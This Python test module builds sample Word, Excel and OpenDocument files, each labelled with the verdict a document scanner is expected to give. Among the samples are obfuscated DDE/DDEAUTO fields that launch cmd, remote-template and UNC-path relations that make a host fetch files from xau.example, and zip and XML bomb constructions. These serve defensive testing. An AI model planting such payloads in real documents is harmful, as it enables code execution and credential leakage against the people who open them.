"""Word, Excel and OpenDocument: usable ones, and all that hides in a zip."""

from __future__ import annotations

import random
import struct
import zipfile
from collections.abc import Iterator

from tests.documents.inspection.building import OFFICE, PE, docx, ole, opendocument, packed, relation, xlsx
from tests.documents.inspection.fields import BEGIN, END, SEPARATE, boxed, external, field, instruction, written

DOCX, XLSX = OFFICE + "wordprocessingml.document", OFFICE + "spreadsheetml.sheet"
ODT, ZIP = "application/vnd.oasis.opendocument.text", "application/zip"
_MACRO = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_LOCAL = (
    "file:///C:\\Users\\Mai\\Normal.dotm",
    "file:///c|/a.dotm",
    "file://C:\\a.dotm",
    "file:C:\\a.dotm",
    "file:/Users/mai/a.dotm",
    "file://localhost/Users/mai/a.dotm",
    "C:\\a.dotm",
)
_HOSTS = (
    "\\\\xau.example\\a\\b.png",
    "file://10.0.0.1/share/x.dotm",
    "FILE:////xau.example/share/x.dotm",
    "file:///\\\\xau.example\\x.dotm",
    "file:\\\\xau\\x.dotm",
    "file:\\\\\\\\xau\\x.dotm",
    "file:///%5C%5Cxau.example%5Cx.dotm",
    "file://localhost//xau.example/x.dotm",
)
_ENTITY = b'<!DOCTYPE t [<!ENTITY a "aaaa">]><Types/>'


def rows() -> Iterator[tuple[str, bytes, str, str]]:
    """Name, content, media type, reason."""
    yield from _usable()
    yield from _active()
    yield from _broken()
    yield from _unwanted()


def _usable() -> Iterator[tuple[str, bytes, str, str]]:
    template = relation("attachedTemplate", "file:///C:\\Users\\Mai\\Normal.dotm")
    lists = {"Basic/script-lc.xml": b"<l/>", "Basic/Standard/script-lb.xml": b"<l/>"}
    web, pasted = "https://a.vn/a.png", "file:///C:\\Users\\Mai\\AppData\\msohtmlclip1\\01\\clip_image001.png"
    yield "letter.docx", docx(), DOCX, ""
    yield "sheet.xlsx", xlsx(), XLSX, ""
    yield "letter.odt", opendocument(), ODT, ""
    yield "with-link.docx", docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://a.vn")}), DOCX, ""
    yield "own-template.docx", docx({"word/_rels/settings.xml.rels": template}), DOCX, ""
    for number, target in enumerate((*_LOCAL, "Normal.dotm")):
        at = {"word/_rels/settings.xml.rels": relation("attachedTemplate", target)}
        yield f"own-template-{number}.docx", docx(at), DOCX, ""
    for name, target in (("web", web), ("local", pasted)):
        at = {"word/_rels/document.xml.rels": relation("image", target)}
        yield f"{name}-picture.docx", docx(at), DOCX, ""
    yield from _ordinary_fields()
    yield "with-sheet.docx", docx({"word/embeddings/sheet1.xlsx": xlsx()}), DOCX, ""
    yield "empty-libraries.odt", opendocument(more=lists), ODT, ""


def _ordinary_fields() -> Iterator[tuple[str, bytes, str, str]]:
    contents, number = field("TOC \\o &quot;1-3&quot; ", "DDE ", shown="DDE auto"), field("PAGE ")
    nested = f"{BEGIN}{instruction('IF ')}{field('SEQ a')}{instruction(' DDE ')}{SEPARATE}{END}"
    for name, body in (
        ("contents", contents + number),
        ("simple", '<w:fldSimple w:instr=" DATE "><w:r><w:t>DDE</w:t></w:r></w:fldSimple>'),
        ("nested", nested),
        ("formula", f"{BEGIN}{instruction(' = ')}{number}{instruction(' - 1 ')}{SEPARATE}{END}"),
        ("formatted", f"{BEGIN}<w:r><w:rPr><mc:ligatures/></w:rPr></w:r>{instruction('PAGE')}{END}"),
        ("of-nothing", BEGIN + SEPARATE + "<w:r><w:t>DDE</w:t></w:r>" + END),
        ("in-box", boxed(number) + "<w:r><w:t>DDEAUTO cmd</w:t></w:r>"),
        ("unfinished", f"{BEGIN}{instruction('REF a ')}" + boxed("<w:r><w:t>DDE</w:t></w:r>")),
    ):
        yield f"field-{name}.docx", written(body), DOCX, ""
    yield "field-utf-16.docx", written(number, encoding="utf-16"), DOCX, ""
    yield "no-field.docx", docx({"word/embeddings/a.bin": b"x fldChar"}), DOCX, ""
    yield "links-to-sheet.xlsx", xlsx(external("externalBook")), XLSX, ""


def _active() -> Iterator[tuple[str, bytes, str, str]]:
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    module = {"Basic/Standard/Module1.xml": b"<script:module/>"}
    template = {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://xau.example/a.dotm")}
    fetched = {"word/_rels/document.xml.rels": relation("oleObject", "mhtml:https://xau.example/x.html!x")}
    yield "macros.docx", docx({"word/vbaProject.bin": b"x"}, types=_MACRO), DOCX, "macros"
    yield "macros-unlisted.xlsx", xlsx({"xl/VBAPROJECT.BIN": b"x"}), XLSX, "macros"
    yield "macros.docm", docx(kind=enabled), "application/vnd.ms-word.document.macroEnabled", "macros"
    yield "old-macros.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<m/>"}), XLSX, "macros"
    yield "macros.odt", opendocument(more=module), ODT, "macros"
    yield "python.odt", opendocument(more={"Scripts/python/a.py": b"print()"}), ODT, "macros"
    yield "remote-template.docx", docx(template), DOCX, "active_content"
    yield "remote-object.docx", docx(fetched), DOCX, "active_content"
    yield from _fetching()
    yield from _dde()
    yield "control.docx", docx({"word/activeX/activeX1.xml": b"<c/>"}), DOCX, "active_content"
    yield "carries-exe.docx", docx({"word/media/image1.png": PE}), DOCX, "active_content"
    yield "carries-script.docx", docx({"word/embeddings/a.vbs": b"x"}), DOCX, "active_content"


def _fetching() -> Iterator[tuple[str, bytes, str, str]]:
    """Asks another computer for something on opening; Windows tells that one who asks."""
    for number, target in enumerate(_HOSTS):
        for kind in ("attachedTemplate", "image"):
            at = {"word/_rels/document.xml.rels": relation(kind, target)}
            yield f"{kind}-of-host-{number}.docx", docx(at), DOCX, "active_content"
    picture = {"xl/drawings/_rels/drawing1.xml.rels": relation("image", _HOSTS[0])}
    chunk = relation("aFChunk", "https://xau.example/x.rtf")
    inside = chunk.replace(b"https://xau.example/x.rtf", b"/word/x.rtf").replace(b' TargetMode="External"', b"")
    yield "picture-of-host.xlsx", xlsx(picture), XLSX, "active_content"
    for name, content in (("remote", chunk), ("own", inside)):
        at = {"word/_rels/document.xml.rels": content, "word/x.rtf": b"{\\rtf1 x}"}
        yield f"{name}-chunk.docx", docx(at), DOCX, "active_content"


def _dde() -> Iterator[tuple[str, bytes, str, str]]:
    """Asks to start a program, as Office could before it had objects."""
    for name, body in (
        ("dde", field("DDE cmd &quot;/c calc&quot;")),
        ("auto", field(" ddeauto cmd ")),
        ("split", field("D", "DEA", "UTO cmd")),
        ("spelt", field("&#68;<!-- x -->D<![CDATA[E]]>AUTO cmd")),
        ("simple", '<w:fldSimple w:instr="&#10;DDEAUTO cmd"/>'),
        ("as-text", f"{BEGIN}<w:r><w:t>DDEAUTO cmd</w:t></w:r>{END}"),
        ("nested", field("IF ") + f"{BEGIN}{instruction('IF ')}{field('DDE cmd')}{END}"),
        ("around-nested", f"{BEGIN}{instruction('DD')}{field('SET a b', shown='')}{instruction('EAUTO cmd')}{END}"),
        ("from-nested", f"{BEGIN}{field('QUOTE 68', shown='D')}{instruction('DE cmd')}{END}"),
        ("without-begin", instruction("DDE cmd")),
        ("unfinished", f"{BEGIN}{instruction('DDE cmd')}"),
        ("in-box", boxed(field("DDE cmd"))),
        ("beside-ignored", f"{BEGIN}{boxed(instruction('PAGE '))}{instruction('DDE cmd')}{END}"),
        ("beside-ignored-field", f"{BEGIN}{boxed(BEGIN + instruction('PAGE '))}{instruction('DDE cmd')}{END}"),
        ("half-in-box", boxed(BEGIN + instruction("DD")) + instruction("E cmd") + END),
        ("spelt-by-nested", f"{BEGIN}{instruction('D')}{field('QUOTE 68')}{instruction('E cmd')}{END}"),
        ("late", "<w:p/>" * 200_000 + field("DDE cmd")),
    ):
        yield f"field-{name}-dde.docx", written(body), DOCX, "active_content"
    strict = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    yield "field-strict-dde.docx", written(field("DDE cmd"), space=strict), DOCX, "active_content"
    yield "field-utf-16-dde.docx", written(field("DDE cmd"), encoding="utf-16"), DOCX, "active_content"
    yield "field-ebcdic-dde.docx", written(field("DDE cmd"), encoding="cp037"), DOCX, "damaged"
    yield "field-in-footer-dde.docx", written(field("DDE cmd"), part="word/footer1.xml"), DOCX, "active_content"
    yield "link.xlsx", xlsx(external('ddeLink ddeService="cmd" ddeTopic="/c calc"')), XLSX, "active_content"


def _broken() -> Iterator[tuple[str, bytes, str, str]]:
    letter = docx()
    wrong = bytearray(letter)
    wrong[letter.index(b"word/document.xml") + 25] ^= 0xFF
    secret = "<manifest:encryption-data manifest:checksum='x'/>"
    locked = bytearray(letter)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[letter.index(mark) + offset] |= 0
        locked[letter.rindex(mark) + offset] |= 1
    unfolding = {"word/media/image1.bmp": b"\0" * 60 * 2**20}
    crowded = {f"word/media/{n}.xml": b"" for n in range(5_001)}
    same = docx({"word/a.xml": b"1", "word/b.xml": b"2"})
    yield "deep.docx", written("<w:sdt>" * 1_001 + field("PAGE")), DOCX, "bomb"
    yield "fields-without-end.docx", written((BEGIN + instruction("IF ")) * 201), DOCX, "bomb"
    yield "long-word.docx", written(field("PAGE") + f"<!--{'x' * 9 * 2**20}-->"), DOCX, "bomb"
    noise = random.Random(1).randbytes(400_000).hex()  # or it would be refused for how well it packs
    yield "endless-text.docx", written(field("PAGE") + noise + " <w:p/>" + " " * 65 * 2**20), DOCX, "bomb"
    yield "elements.docx", written(field("PAGE") + "<w:p/>" * 2_000_001), DOCX, "bomb"
    yield "cut.docx", letter[: len(letter) // 2], ZIP, "truncated"
    yield "cut-end.xlsx", xlsx()[:-4], ZIP, "truncated"
    yield "wrong-sum.docx", bytes(wrong), DOCX, "damaged"
    yield "no-main-part.docx", packed({"[Content_Types].xml": b"<Types/>"}), ZIP, "not_a_document"
    yield "not-xml.docx", packed({"[Content_Types].xml": b"<Types"}), ZIP, "damaged"
    yield "entities.docx", packed({"[Content_Types].xml": _ENTITY}), ZIP, "active_content"
    yield "one-name-twice.docx", same.replace(b"word/b.xml", b"word/a.xml"), DOCX, "damaged"
    yield "rare-packing.docx", _bzip2(), DOCX, "damaged"
    yield "no-text.odt", packed({"mimetype": ODT.encode()}), ODT, "damaged"
    yield "password.docx", ole("EncryptedPackage"), "application/x-ole-storage", "encrypted"
    yield "password.odt", opendocument(entry=secret), ODT, "encrypted"
    yield "password-zip.docx", bytes(locked), DOCX, "encrypted"
    yield "unfolds.docx", docx(unfolding), DOCX, "bomb"
    yield "crowded.docx", docx(crowded), ZIP, "bomb"
    yield "says-300-megabytes.docx", _lying(300 * 2**20), DOCX, "bomb"
    yield "says-less.docx", _lying(10), DOCX, "damaged"
    yield "long-list.docx", packed({"[Content_Types].xml": b"<Types>" + b" " * 5 * 2**20}), ZIP, "bomb"


def _unwanted() -> Iterator[tuple[str, bytes, str, str]]:
    slides = OFFICE + "presentationml.presentation"
    dex = {"AndroidManifest.xml": b"x", "classes.dex": b"dex\n035\0"}
    yield "slides.pptx", docx(kind=slides + ".main+xml"), slides, "not_a_document"
    sheet = "application/vnd.oasis.opendocument.spreadsheet"
    yield "sheet.ods", opendocument("spreadsheet"), sheet, "not_a_document"
    yield "old.doc", ole("WordDocument"), "application/msword", "not_a_document"
    yield "old.xls", ole("Workbook"), "application/vnd.ms-excel", "not_a_document"
    yield "other.ole", ole("Something"), "application/x-ole-storage", "unknown"
    yield "papers.zip", packed({"don.pdf": b"%PDF-1.7", "cccd.jpg": b"\xff\xd8"}), ZIP, "archive"
    yield "program.jar", packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe"}), ZIP, "executable"
    yield "program.apk", packed(dex), ZIP, "executable"


def _bzip2() -> bytes:
    kind = f'<Types><Override PartName="/word/document.xml" ContentType="{DOCX}.main+xml"/></Types>'
    return packed({"[Content_Types].xml": kind.encode(), "word/document.xml": b"x"}, method=zipfile.ZIP_BZIP2)


def _lying(size: int) -> bytes:
    """The directory promises another size of the last part than it has."""
    letter = bytearray(docx())
    struct.pack_into("<I", letter, letter.rindex(b"PK\x01\x02") + 24, size)
    return bytes(letter)
